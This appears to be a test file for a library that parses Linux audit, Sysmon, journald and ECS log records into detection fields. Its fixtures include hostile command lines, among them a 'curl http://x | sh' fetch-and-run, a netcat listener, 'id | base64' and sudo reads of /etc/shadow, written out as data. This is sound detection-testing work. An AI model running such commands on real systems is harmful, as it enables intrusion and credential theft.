import type { Json, JsonObject } from '../../index.js';
import { labels, matches, read } from '../../../test/source-fields.js';

const EXEC =
  'type=SYSCALL msg=audit(1793200000.123:77): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55e1 pid=11 uid=33 euid=33 ses=4 comm="sh" exe="/usr/bin/dash" key="exec"';
const ARGS = 'type=EXECVE msg=audit(1793200000.123:77): argc=3 a0="sh" a1="-c" a2=6375726C20687474703A2F2F78207C207368';
const CWD = 'type=CWD msg=audit(1793200000.123:77): cwd="/var/www"';
const COMMAND = 'sh -c curl http://x | sh';

describe('Linux', () => {
  it.each<[string, JsonObject]>([
    ['lines of one event', { message: [EXEC, ARGS, CWD].join('\n'), host: { name: 'web1' } }],
    ['behind a syslog header', { message: `<13>Nov  2 10:00:00 web1 audispd: node=web1 ${EXEC}\n${ARGS}\n${CWD}` }],
    [
      'as members named after their types',
      {
        ID: '1793200000.123:77',
        NODE: 'web1',
        SYSCALL: { arch: '0xc000003e', syscall: 59, uid: 33, exe: '/usr/bin/dash', comm: 'sh' },
        EXECVE: { argc: 3, ARGV: ['sh', '-c', 'curl http://x | sh'] },
        CWD: { cwd: '/var/www' },
      },
    ],
    [
      'as Auditbeat writes them',
      {
        auditd: { message_type: 'syscall', data: { syscall: 'execve', a0: '55d1' } },
        process: {
          executable: '/usr/bin/dash',
          name: 'sh',
          args: ['sh', '-c', 'curl http://x | sh'],
          working_directory: '/var/www',
        },
        user: { id: '33' },
        host: { name: 'web1' },
      },
    ],
  ])('reads a process creation from audit records: %s', (_, event) => {
    expect(labels('linux', event)).toEqual(['linux/process_creation', 'linux/auditd', 'linux/*']);
    expect(
      read('linux', event, 'Image', 'CommandLine', 'CurrentDirectory', 'User', 'Computer', 'a1', 'SYSCALL'),
    ).toEqual({
      Image: '/usr/bin/dash',
      CommandLine: COMMAND,
      CurrentDirectory: '/var/www',
      User: '33',
      Computer: 'web1',
      a1: '-c',
      SYSCALL: 'execve',
    });
    for (const type of ['SYSCALL', 'execve'])
      expect(matches('linux', event, { product: 'linux', service: 'auditd' }, { type, a0: 'sh' })).toBe(true);
  });

  it('reads one record alone, flat or as a line', () => {
    expect(labels('linux', { type: 'EXECVE', a0: 'chmod', a1: 'u+s' })).toContain('linux/process_creation');
    expect(read('linux', { message: ARGS }, 'CommandLine', 'a2')).toEqual({
      CommandLine: COMMAND,
      a2: 'curl http://x | sh',
    });
    expect(
      read('linux', { message: 'type=PROCTITLE msg=audit(1.2:3): proctitle=7368002D630069640A' }, 'CommandLine'),
    ).toEqual({ CommandLine: 'sh -c id\n' });
  });

  it('names files that were made, and not folders they are in', () => {
    const event = {
      message: [
        EXEC.replace('syscall=59', 'syscall=257'),
        CWD,
        'type=PATH msg=audit(1793200000.123:77): item=0 name="/var/www" nametype=PARENT',
        'type=PATH msg=audit(1793200000.123:77): item=1 name="x.php" nametype=CREATE',
      ].join('\n'),
    };
    expect(labels('linux', event)).toContain('linux/file_event');
    expect(read('linux', event, 'TargetFilename', 'SYSCALL')).toEqual({
      TargetFilename: '/var/www/x.php',
      SYSCALL: 'openat',
    });
  });

  it('reads addresses of connections', () => {
    const event = {
      message: [
        EXEC.replace('syscall=59', 'syscall=42'),
        'type=SOCKADDR msg=audit(1793200000.123:77): saddr=020001BBCB0071090000000000000000',
      ].join('\n'),
    };
    expect(labels('linux', event)).toContain('linux/network_connection');
    expect(read('linux', event, 'DestinationIp', 'DestinationPort', 'Initiated')).toEqual({
      DestinationIp: '203.0.113.9',
      DestinationPort: '443',
      Initiated: 'true',
    });
  });

  it('reads what user space says inside a message', () => {
    const event = {
      message: `type=SERVICE_STOP msg=audit(1.2:3): pid=1 uid=0 msg='unit=auditd comm="systemd" exe="/usr/lib/systemd/systemd" res=success'`,
    };
    expect(read('linux', event, 'type', 'unit', 'comm')).toEqual({
      type: 'SERVICE_STOP',
      unit: 'auditd',
      comm: 'systemd',
    });
  });

  it('reads Sysmon, as JSON and as XML in a log line', () => {
    const xml = {
      message:
        'Nov  2 10:00:00 web1 sysmon: <Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><Computer>web1</Computer></System><EventData><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl x &amp;&amp; y</Data></EventData></Event>',
    };
    const json = {
      Event: {
        System: { Provider: { Name: 'Linux-Sysmon' }, EventID: 1, Computer: 'web1' },
        EventData: { Image: '/usr/bin/curl', CommandLine: 'curl x && y' },
      },
    };
    for (const event of [xml, json]) {
      expect(labels('linux', event)).toEqual(['linux/process_creation', 'linux/sysmon', 'linux/*']);
      expect(read('linux', event, 'CommandLine', 'Computer')).toEqual({ CommandLine: 'curl x && y', Computer: 'web1' });
    }
  });

  it("reads what Azure's collectors forward", () => {
    const sentinel = (SyslogMessage: string, ProcessName: string): JsonObject => ({
      TimeGenerated: '2026-11-02T09:20:00.250Z',
      Computer: 'web1',
      HostName: 'web1',
      Facility: 'user',
      SyslogMessage,
      ProcessName,
      Type: 'Syslog',
    });
    const auoms = sentinel(
      'type=AUOMS_EXECVE audit(1793611200.250:77): SchemaVersion="1" node=web1 arch=x86_64 syscall=execve syscall_r=59 success=yes a0=7fcd a1=7fce ppid=10 pid=11 user=tomcat uid=1001 ses="-1" comm="bash" exe="/bin/bash" key=auoms cwd="/" name="/bin/bash" path_name=["/bin/bash","/lib64/ld.so"] path_nametype=["NORMAL","NORMAL"] argc=3 cmdline="bash -c "id | base64"" redactors= containerid=',
      'auoms',
    );
    expect(labels('linux', auoms)).toEqual(['linux/process_creation', 'linux/auditd', 'linux/*']);
    expect(read('linux', auoms, 'CommandLine', 'Image', 'User', 'Computer', 'a1', 'name')).toEqual({
      CommandLine: 'bash -c "id | base64"',
      Image: '/bin/bash',
      User: 'tomcat',
      Computer: 'web1',
      a1: '-c',
      name: '/bin/bash',
    });
    const sysmon = sentinel(
      '<Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><Computer>web1</Computer></System><EventData><Data Name="Image">/bin/bash</Data></EventData></Event>',
      'sysmon',
    );
    expect(labels('linux', sysmon)).toEqual(['linux/process_creation', 'linux/sysmon', 'linux/*']);
  });

  it('tells the service of a log line from its program', () => {
    expect(
      labels('linux', { message: '<38>1 2026-11-02T10:00:00Z web1 sshd 12 - - Failed password for root' }),
    ).toEqual(['linux/sshd', 'linux/auth', 'linux/syslog', 'linux/*']);
    expect(labels('linux', { MESSAGE: '(root) CMD (x)', SYSLOG_IDENTIFIER: '/usr/sbin/CRON' })).toEqual([
      'linux/cron',
      'linux/syslog',
      'linux/*',
    ]);
    const sudo = {
      message: 'Nov  2 10:00:00 web1 sudo[7]:      ada : TTY=pts/0 ; PWD=/srv/ada ; USER=#-1 ; COMMAND=/bin/sh',
    };
    expect(labels('linux', sudo)).toContain('linux/sudo');
    expect(read('linux', sudo, 'USER', 'COMMAND', 'PWD', 'SUDO_BY', 'Computer')).toEqual({
      USER: '#-1',
      COMMAND: '/bin/sh',
      PWD: '/srv/ada',
      SUDO_BY: 'ada',
      Computer: 'web1',
    });
  });

  it.each<[string, Json]>([
    ['bytes', [...Buffer.from('ada : TTY=pts/0 ; USER=root ; COMMAND=/bin/sh -c \u001b[0m/etc/shadow')]],
    ['several', ['x', [...Buffer.from('ada : USER=root ; COMMAND=/etc/shadow\r')]]],
    ['numbers that are no bytes', [256, -1, 1.5]],
    ['nothing', []],
    ['null', null],
  ])("is found in what systemd's journal has as %s", (form, MESSAGE) => {
    const event = { MESSAGE, SYSLOG_IDENTIFIER: 'sudo', _HOSTNAME: 'web1', _CMDLINE: [...Buffer.from('sudo \u001b')] };
    const found = form === 'bytes' || form === 'several';
    expect(labels('linux', event)).toContain('linux/sudo');
    expect(matches('linux', event, { product: 'linux' }, { _CMDLINE: 'sudo*' })).toBe(true);
    expect(matches('linux', event, { product: 'linux', service: 'sudo' }, { COMMAND: '*/etc/shadow*' })).toBe(found);
  });

  it("reads an agent's records in ECS", () => {
    const event = {
      event: { category: ['process'], type: ['start'] },
      process: { executable: '/bin/nc', args: ['nc', '-l'], parent: { executable: '/bin/sh' } },
      host: { hostname: 'web1' },
    };
    expect(labels('linux', event)).toContain('linux/process_creation');
    expect(read('linux', event, 'Image', 'CommandLine', 'ParentImage', 'Computer')).toEqual({
      Image: '/bin/nc',
      CommandLine: 'nc -l',
      ParentImage: '/bin/sh',
      Computer: 'web1',
    });
  });

  it.each<[JsonObject]>([
    [{}],
    [{ message: null }],
    [{ SYSCALL: [] }],
    [{ message: 'type= msg=audit(' }],
    [{ auditd: { data: [] } }],
    [{ process: 1, event: 2 }],
    [{ EXECVE: { ARGV: [null, {}] } }],
    [{ type: 'EXECVE', a0: null }],
  ])('takes %j as it is', (event) => {
    expect(labels('linux', event)).toContain('linux/*');
  });
});
